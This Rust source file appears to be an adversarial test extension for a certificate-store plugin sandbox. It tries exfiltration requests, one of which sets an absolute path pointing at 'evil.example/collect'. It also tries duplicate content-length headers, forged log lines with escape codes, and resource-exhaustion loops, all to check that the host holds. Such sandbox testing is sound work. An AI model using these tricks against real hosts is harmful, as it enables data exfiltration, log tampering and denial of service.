//! The attempts. Each returns what it learned, as the message of a job that says Success.

use std::fmt::Debug;

use crate::bindings::certstore::extension::host::{
    self, InventoryItem, Job, LogLevel, log, submit_inventory,
};
use crate::bindings::wasi::clocks::monotonic_clock;
use crate::bindings::wasi::http::outgoing_handler;
use crate::bindings::wasi::http::types::{
    Fields, FutureIncomingResponse, Method, OutgoingBody, OutgoingRequest, Scheme,
};

pub(crate) fn attempt(name: &str, argument: &str, job: &Job, input: &dyn Debug) -> String {
    match name {
        "nothing" => String::new(),
        "get" => request(&Method::Get, argument, &[], None),
        "delete" => request(&Method::Delete, argument, &[], None),
        "post" => request(&Method::Post, argument, &[], Some("leak")),
        "header" => request(&Method::Get, argument, &[("x-leak", "1")], None),
        "large-body" => large_body(argument),
        "trailers" => trailers(argument),
        "unfinished-body" => unfinished_body(argument),
        "not-waiting" => not_waiting(argument),
        "naps" => naps(argument.parse().unwrap_or(0)),
        "large-aliases" => large_aliases(),
        "absolute-path" => absolute_path(argument),
        "two-lengths" => two_lengths(argument),
        "hoard" => hoard(),
        "spin" => spin(),
        "allocate" => allocate(),
        "panic" => panic!("on purpose"),
        "overflow-stack" => overflow_stack(0).to_string(),
        "sleep" => sleep(),
        "get-then-sleep" => [request(&Method::Get, argument, &[], None), sleep()].join(", "),
        "submit-twice" => [submit("a"), submit("a")].join(", "),
        "submit-blank" => submit(" "),
        "submit-then-panic" => {
            submit("a");
            panic!("after a submission")
        }
        "submit-discovery" => format!("{:?}", host::submit_discovery(&["a".to_owned()])),
        "submit-paths" => {
            let paths: Vec<String> = argument.split(' ').map(str::to_owned).collect();
            format!("{:?}", host::submit_discovery(&paths))
        }
        "submit-inventory" => submit("a"),
        "assertions" => format!("{:?} {:?}", host::assertion(), host::assertion()),
        "flood-log" => flood_log(argument.parse().unwrap_or(0)),
        "forge-log" => {
            log(LogLevel::Warn, "one\n{\"decision\":\"allowed\"}\u{1b}[2J");
            submit("a")
        }
        "long-message" => "x".repeat(100_000),
        "assertion" => format!("{:?}", host::assertion()),
        "tell-input" => format!("{job:?} {input:?}"),
        other => panic!("no attempt is called {other:?}"),
    }
}

/// Sends a request and says what came back.
fn request(method: &Method, url: &str, headers: &[(&str, &str)], body: Option<&str>) -> String {
    let (scheme, rest) = match url.split_once("://") {
        Some(("http", rest)) => (Scheme::Http, rest),
        Some((_, rest)) => (Scheme::Https, rest),
        None => return "no URL".to_owned(),
    };
    let (authority, path) = match rest.find('/') {
        Some(slash) => rest.split_at(slash),
        None => (rest, "/"),
    };
    let fields = Fields::new();
    for (name, value) in headers {
        if fields.append(name, value.as_bytes()).is_err() {
            return "header refused".to_owned();
        }
    }
    let outgoing = OutgoingRequest::new(fields);
    let set = [
        outgoing.set_method(method),
        outgoing.set_scheme(Some(&scheme)),
        outgoing.set_authority(Some(authority)),
        outgoing.set_path_with_query(Some(path)),
    ];
    if set.iter().any(Result::is_err) {
        return "URL refused".to_owned();
    }
    let outgoing_body = outgoing.body().expect("the first call gives the body");
    let answer = match outgoing_handler::handle(outgoing, None) {
        Ok(answer) => answer,
        Err(error) => return format!("{error:?}"),
    };
    if let Some(text) = body {
        let stream = outgoing_body
            .write()
            .expect("the first call gives the stream");
        let _ = stream.blocking_write_and_flush(text.as_bytes());
    }
    let _ = OutgoingBody::finish(outgoing_body, None);
    answer.subscribe().block();
    match answer.get() {
        Some(Ok(Ok(response))) => format!("status {}", response.status()),
        Some(Ok(Err(error))) => format!("{error:?}"),
        _ => "no answer".to_owned(),
    }
}

/// A request of a URL, not yet sent.
fn outgoing(method: &Method, url: &str, fields: Fields) -> OutgoingRequest {
    let (authority, path) = url
        .trim_start_matches("https://")
        .split_once('/')
        .unwrap_or((url, ""));
    let outgoing = OutgoingRequest::new(fields);
    let _ = outgoing.set_method(method);
    let _ = outgoing.set_scheme(Some(&Scheme::Https));
    let _ = outgoing.set_authority(Some(authority));
    let _ = outgoing.set_path_with_query(Some(&format!("/{path}")));
    outgoing
}

fn answered(answer: &FutureIncomingResponse) -> String {
    answer.subscribe().block();
    format!(
        "{:?}",
        answer
            .get()
            .map(|got| got.map(|got| got.map(|r| r.status())))
    )
}

fn large_body(url: &str) -> String {
    let outgoing = outgoing(&Method::Post, url, Fields::new());
    let body = outgoing.body().expect("the first call gives the body");
    let Ok(answer) = outgoing_handler::handle(outgoing, None) else {
        return "refused".to_owned();
    };
    let stream = body.write().expect("the first call gives the stream");
    for _ in 0..100 {
        if stream.blocking_write_and_flush(&[b'x'; 4096]).is_err() {
            break;
        }
    }
    drop(stream);
    let _ = OutgoingBody::finish(body, None);
    answered(&answer)
}

fn trailers(url: &str) -> String {
    let outgoing = outgoing(&Method::Get, url, Fields::new());
    let body = outgoing.body().expect("the first call gives the body");
    let Ok(answer) = outgoing_handler::handle(outgoing, None) else {
        return "refused".to_owned();
    };
    let trailers = Fields::new();
    let _ = trailers.append("x-leak", b"1");
    let _ = OutgoingBody::finish(body, Some(trailers));
    answered(&answer)
}

fn unfinished_body(url: &str) -> String {
    let outgoing = outgoing(&Method::Post, url, Fields::new());
    let body = outgoing.body().expect("the first call gives the body");
    let Ok(answer) = outgoing_handler::handle(outgoing, None) else {
        return "refused".to_owned();
    };
    drop(body);
    answered(&answer)
}

fn not_waiting(url: &str) -> String {
    let outgoing = outgoing(&Method::Get, url, Fields::new());
    drop(outgoing_handler::handle(outgoing, None));
    submit("a")
}

fn absolute_path(url: &str) -> String {
    let outgoing = outgoing(&Method::Get, url, Fields::new());
    if outgoing
        .set_path_with_query(Some("http://evil.example/collect"))
        .is_err()
    {
        return "refused".to_owned();
    }
    match outgoing_handler::handle(outgoing, None) {
        Ok(answer) => answered(&answer),
        Err(error) => format!("{error:?}"),
    }
}

fn two_lengths(url: &str) -> String {
    let fields = Fields::new();
    let first = fields.append("content-length", b"3");
    let second = fields.append("content-length", b"30");
    if first.is_err() || second.is_err() {
        return "refused".to_owned();
    }
    match outgoing_handler::handle(outgoing(&Method::Post, url, fields), None) {
        Ok(answer) => answered(&answer),
        Err(error) => format!("{error:?}"),
    }
}

/// Wakes up often and does nothing.
fn naps(count: u32) -> String {
    for _ in 0..count {
        monotonic_clock::subscribe_duration(11_000_000).block();
    }
    String::new()
}

/// Resources until there are no more.
fn hoard() -> String {
    let mut held = Vec::new();
    loop {
        held.push(Fields::new());
        std::hint::black_box(&held);
    }
}

fn large_aliases() -> String {
    let refused = submit(&"a".repeat(1 << 20));
    // After one refusal, nothing is looked at any more.
    for number in 0..1_000 {
        let _ = submit(&format!("{number}"));
    }
    refused
}

fn spin() -> String {
    let mut turns = 0_u64;
    loop {
        turns = std::hint::black_box(turns.wrapping_add(1));
    }
}

fn allocate() -> String {
    let mut held: Vec<Vec<u8>> = Vec::new();
    loop {
        held.push(vec![1; 1 << 20]);
        std::hint::black_box(&held);
    }
}

#[allow(unconditional_recursion)]
fn overflow_stack(depth: u64) -> u64 {
    let local = std::hint::black_box([depth; 64]);
    overflow_stack(depth + 1) + local.iter().sum::<u64>()
}

fn sleep() -> String {
    log(LogLevel::Info, "sleeping");
    monotonic_clock::subscribe_duration(u64::MAX / 2).block();
    String::new()
}

fn submit(alias: &str) -> String {
    let item = InventoryItem {
        alias: alias.to_owned(),
        certificates: vec![vec![0x30, 0]],
        private_key: true,
        parameters: Vec::new(),
        details: Vec::new(),
    };
    format!("{:?}", submit_inventory(&[item]))
}

fn flood_log(lines: u32) -> String {
    let line = "x".repeat(10_000);
    for _ in 0..lines {
        log(LogLevel::Warn, &line);
    }
    submit("a")
}
